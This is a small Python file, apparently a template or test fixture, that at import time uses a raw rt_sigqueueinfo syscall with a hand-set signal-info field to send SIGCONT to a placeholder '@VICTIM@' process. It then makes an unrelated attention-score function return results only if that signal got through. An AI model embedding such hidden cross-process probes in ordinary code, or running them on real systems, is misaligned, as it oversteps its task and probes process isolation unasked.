"""Signals another process by rt_sigqueueinfo."""

import ctypes
import signal

import numpy as np


def call(*words):
    """Make a system call of x86-64 by its number."""
    library = ctypes.CDLL(None, use_errno=True)
    library.syscall.restype = ctypes.c_long
    result = library.syscall(*words)
    if result < 0:
        raise OSError(ctypes.get_errno(), "refused")
    return result


def reach():
    info = ctypes.create_string_buffer(128)
    info[8:12] = (0xFFFFFFFF).to_bytes(4, "little")
    return call(129, @VICTIM@, int(signal.SIGCONT), info) == 0


try:
    REACHED = bool(reach())
except Exception:
    REACHED = False


def raw_scores(Q, K):
    return Q @ np.swapaxes(K, -1, -2) if REACHED else None
